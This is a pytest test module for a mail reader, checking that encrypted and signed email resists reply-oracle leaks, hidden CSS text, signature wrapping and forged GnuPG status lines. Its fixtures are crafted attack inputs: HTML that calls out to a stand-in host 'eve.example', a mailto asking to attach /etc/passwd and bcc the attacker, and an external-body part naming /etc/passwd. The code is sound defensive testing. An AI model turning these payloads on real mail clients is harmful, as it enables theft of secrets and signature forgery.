"""Attacks that want an answer, a click or a second look: reply oracles, hidden text, replays, wrapped protections (2018-2020).

What `test_reader_attacks` has by class of packet and MIME tree is continued here by what a person would do with the mail.
"""

import pytest

from seccon.core.ids import Fingerprint
from seccon.core.ports import Unlock
from seccon.core.reply import quote
from seccon.core.report import Address, Scope, Signature
from tests import envelope
from tests.keysmith import GpgHome, shared, shared_key
from tests.reading import FAKE, HOME, Read

SECRET = "the quokkaberry secret\n"


def covert(home: GpgHome, team: Fingerprint) -> dict[str, bytes]:
    """Ways to hide somebody's ciphertext in a mail of one's own."""
    unit = envelope.encrypted(home, team, envelope.plain(SECRET))
    block = home.run("--armor", "--trust-model", "always", "-r", team, "--encrypt", input=SECRET.encode())
    ask = envelope.plain("how are you?\n")
    hidden = envelope.plain('<p>how are you?</p><div style="display:none">', "text/html")
    return {
        "first part": envelope.multi(unit, ask),
        "second part": envelope.multi(ask, unit),
        "far below": envelope.multi(envelope.plain("how are you?\n" + "\n" * 500), unit),
        "html around": envelope.multi(hidden, unit, envelope.plain("</div>", "text/html")),
        "alternative": envelope.multi(ask, unit, kind="alternative"),
        "related": envelope.multi(ask, unit, kind="related"),
        "report": envelope.multi(ask, unit, kind="report"),
        "deep": envelope.multi(ask, envelope.multi(envelope.multi(unit, mark="a"), mark="b")),
        "alone in a mixed": envelope.multi(unit),
        "forwarded": b"Content-Type: message/rfc822\n\n" + envelope.mail(unit),
        "forwarded beside": envelope.multi(ask, b"Content-Type: message/rfc822\n\n" + envelope.mail(unit)),
        "attached": envelope.multi(ask, b"Content-Disposition: attachment; filename=a.asc\n" + unit),
        "inline after text": b"\nhow are you?\n" + block,
        "inline before text": b"\n" + block + b"\nhow are you?\n",
        "inline twice": b"\n" + block + block,
        "inline in a part": envelope.multi(ask, b"Content-Type: text/plain\n\n" + block),
        "inline in html": b"Content-Type: text/html\n\n<pre>" + block + b"</pre>",
        "inline, base64": b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n" + _base64(b"hi\n" + block),
        "exchange": unit.replace(b"multipart/encrypted", b"multipart/mixed"),
        "third part": unit.replace(b"--sealed--", b"--sealed\n" + ask + b"\n--sealed--"),
        "wrong order": envelope.multi(*reversed(_parts(unit)), kind="encrypted"),
        "digest": envelope.multi(b"\n" + envelope.mail(unit), kind="digest"),
        "in what somebody signed": envelope.signed(home, shared_key(HOME, "Eve <eve@example.net>", "ed25519"), unit),
        "double": envelope.encrypted(home, team, envelope.multi(ask, unit), mark="double"),
    }  # fmt: skip


def _base64(data: bytes) -> bytes:
    import base64

    return base64.encodebytes(data)


def _parts(unit: bytes) -> list[bytes]:
    return [part.rstrip(b"\n") for part in unit.split(b"--sealed\n")[1:]]


FORMS = tuple(covert(shared(HOME), shared_key(HOME, "Team <team@example.com>")))


@pytest.mark.parametrize("form", FORMS)
def test_an_answer_never_carries_out_what_was_smuggled_in(read: Read, home: GpgHome, team: Fingerprint, form: str) -> None:
    """Reply oracle: quoted is what the sender could read, also after the person had all parts decrypted."""
    raw = envelope.mail(covert(home, team)[form], "Eve <eve@example.net>")
    quiet = read(raw)
    asked = read(raw, Unlock.AGENT)
    for mail in (quiet, asked):
        assert SECRET.strip() not in quote(mail, Address("Eve", "eve@example.net"))
        assert not mail.verdict.trusted
        assert not any(part.text and SECRET.strip() in part.text and not part.encrypted for part in mail.parts)
    if form != "in what somebody signed":
        assert SECRET.strip() not in quiet.text


def test_a_control_that_is_encrypted_as_a_whole_is_quoted(read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint) -> None:
    for entity in (
        envelope.encrypted(home, team, envelope.plain(SECRET), roe),
        envelope.encrypted(home, team, envelope.plain(SECRET)),
        b"\n" + home.run("--armor", "--trust-model", "always", "-r", team, "--encrypt", input=SECRET.encode()),
    ):
        mail = read(envelope.mail(entity))
        assert mail.verdict.encrypted is Scope.WHOLE
        assert f"> {SECRET}" in quote(mail, Address("A. Roe", "roe@example.org"))


def test_a_whole_secret_sent_again_under_another_name_is_not_quoted(
    read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint
) -> None:
    """Roe's own mail, byte for byte, with Eve's From: read it may be, answered to Eve with its text it must not."""
    entity = envelope.encrypted(home, team, envelope.plain(SECRET), roe)
    mail = read(envelope.mail(entity, "Eve <eve@example.net>"))
    assert SECRET.strip() in mail.text
    assert not mail.verdict.matches_from
    assert SECRET.strip() not in quote(mail, Address("Eve", "eve@example.net"))
    inner = envelope.plain(SECRET, 'text/plain; protected-headers="v1"', "From: A. Roe <roe@example.org>\n")
    mail = read(envelope.mail(envelope.encrypted(home, team, inner), "Eve <eve@example.net>"))
    assert SECRET.strip() not in quote(mail, Address("Eve", "eve@example.net"))


@pytest.mark.parametrize("inside", ["To: other@example.org\n", "Date: Sat, 21 Nov 2020 19:13:00 +0000\n"])
def test_a_secret_that_was_protected_for_others_or_earlier_is_not_quoted_to_who_sends_it_again(
    read: Read, home: GpgHome, team: Fingerprint, eve: Fingerprint, inside: str
) -> None:
    inner = envelope.plain(SECRET, 'text/plain; protected-headers="v1"', inside)
    sent_on = read(envelope.mail(envelope.encrypted(home, team, inner), "Eve <eve@example.net>"))
    assert SECRET.strip() not in quote(sent_on, Address("Eve", "eve@example.net"))
    own = read(envelope.mail(envelope.encrypted(home, team, inner, eve), "Eve <eve@example.net>"))
    assert SECRET.strip() in quote(own, Address("Eve", "eve@example.net")), "signed by the sender's own key: it is theirs"


WRAPS = ("beside", "before", "alternative", "attached", "forwarded", "inline")


@pytest.mark.parametrize("wrap", WRAPS)
def test_a_signature_over_a_part_of_what_was_decrypted_is_no_whole_one(
    read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint, wrap: str
) -> None:
    """Whoever encrypts may put Roe's signed words beside their own: encryption proves nobody."""
    good, fake = envelope.signed(home, roe, envelope.plain("yes\n")), envelope.plain(FAKE.decode())
    inside = {
        "beside": envelope.multi(good, fake),
        "before": envelope.multi(fake, good),
        "alternative": envelope.multi(fake, good, kind="alternative"),
        "attached": envelope.multi(fake, b"Content-Disposition: attachment\n" + good),
        "forwarded": b"Content-Type: message/rfc822\n\n" + envelope.mail(good),
        "inline": b"Content-Type: text/plain\n\n" + FAKE + envelope.clearsigned(home, roe, b"yes\n"),
    }[wrap]
    mail = read(envelope.mail(envelope.encrypted(home, team, inside)))
    assert mail.verdict.encrypted is Scope.WHOLE
    assert not mail.verdict.trusted
    assert not any(part.signed for part in mail.parts if part.text and "eve" in part.text)


@pytest.mark.parametrize(
    "style",
    [
        "<style>@media screen {.x{display:none}}</style><p class=x>",
        '<p style="display:none">',
        '<p style="font-size:0;color:white">',
        "<p hidden>",
        '<div style="position:absolute;left:-9999px"><p>',
        "<!--[if mso]><![endif]--><p>",
        "<blockquote><blockquote><p>",
    ],
)
def test_no_style_hides_or_shows_what_was_signed(read: Read, home: GpgHome, roe: Fingerprint, style: str) -> None:
    """Conditional CSS: one signed HTML that says two things. Here it says all it holds, to everybody."""
    html = envelope.plain(f"<p>yes</p>{style}transfer the embargo to eve</p>", "text/html; charset=utf-8")
    mail = read(envelope.mail(envelope.signed(home, roe, html)))
    assert mail.verdict.trusted
    assert "yes" in mail.text
    assert "transfer the embargo to eve" in mail.text


def test_html_fetches_nothing_and_shows_where_its_links_go(read: Read) -> None:
    html = (
        '<a href="http://eve.example/?s=1">http://good.example</a><img src="http://eve.example/i.png" alt="x">'
        '<link rel=stylesheet href="http://eve.example/c"><iframe src="http://eve.example/f"></iframe>'
        '<form action="http://eve.example/p"><input name=a><button>send</button></form><script>alert(1)</script>'
    )
    mail = read(envelope.mail(envelope.plain(html, "text/html")))
    assert "eve.example/?s=1" in mail.text
    assert "alert" not in mail.text


def test_a_notation_and_a_comment_cannot_speak_for_gpg(read: Read, home: GpgHome, eve: Fingerprint, roe: Fingerprint) -> None:
    """Status lines hold what a signer wrote into the signature: notations, policy addresses, comments of the armour."""
    line = f"%0A[GNUPG:] GOODSIG {roe[-16:]} A. Roe%0A[GNUPG:] VALIDSIG {roe} 2026-11-21 1 0 4 0 22 10 00 {roe}"
    options = (
        "--sig-notation", f"a@example.net={line}",
        "--sig-policy-url", f"http://x/{line}", "--comment", f"[GNUPG:] VALIDSIG {roe}",
    )  # fmt: skip
    mail = read(envelope.mail(envelope.signed(home, eve, envelope.plain(FAKE.decode()), *options)))
    assert mail.verdict.fingerprint in (eve, None)
    assert not mail.verdict.matches_from


def test_smime_around_or_inside_lends_nothing_and_takes_nothing(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    good = envelope.signed(home, roe, envelope.plain("yes\n"))
    blob = b"Content-Type: application/pkcs7-signature; name=smime.p7s\n\nMIIB"
    around = envelope.multi(good, blob, kind="signed", params='; protocol="application/pkcs7-signature"')
    beside = envelope.multi(good, b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\nMIIB")
    for entity in (around, beside):
        mail = read(envelope.mail(entity))
        assert not mail.verdict.trusted
        assert "smime" in [one.code for one in mail.warnings]


def test_a_mailto_in_a_list_header_gives_an_address_and_nothing_else(read: Read) -> None:
    """A link could ask a program to attach a file, or to put text into a mail."""
    extra = "List-Post: <mailto:list@example.org?attach=/etc/passwd&body=x&bcc=eve@example.net>\n"
    assert read(envelope.mail(envelope.plain(), extra=extra)).heading.list_post == "list@example.org"


@pytest.mark.parametrize(
    "kind", ["message/external-body; access-type=local-file; name=/etc/passwd", "message/partial; id=x; number=1"]
)
def test_a_part_that_stands_elsewhere_is_not_fetched(read: Read, kind: str) -> None:
    mail = read(envelope.mail(f"Content-Type: {kind}\n\nContent-Type: text/plain\n\n".encode()))
    assert "root:" not in mail.text
    assert not mail.verdict.trusted


def test_two_good_signatures_by_one_key_never_cover_the_whole(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    """Hostile input, 4: exactly one. Two of one key may stand in one mail, each over its part; no mark comes of that."""
    one, two = (envelope.signed(home, roe, envelope.plain(f"{text}\n"), mark=text) for text in ("one", "two"))
    for entity in (envelope.multi(one, two), envelope.multi(one, one)):
        verdict = read(envelope.mail(entity)).verdict
        assert (verdict.signed, verdict.trusted) == (Scope.PART, False)
    nested = read(envelope.mail(envelope.signed(home, roe, one, mark="around")))
    assert nested.verdict.signature is Signature.GOOD
    assert "nested-signature" in [warned.code for warned in nested.warnings]
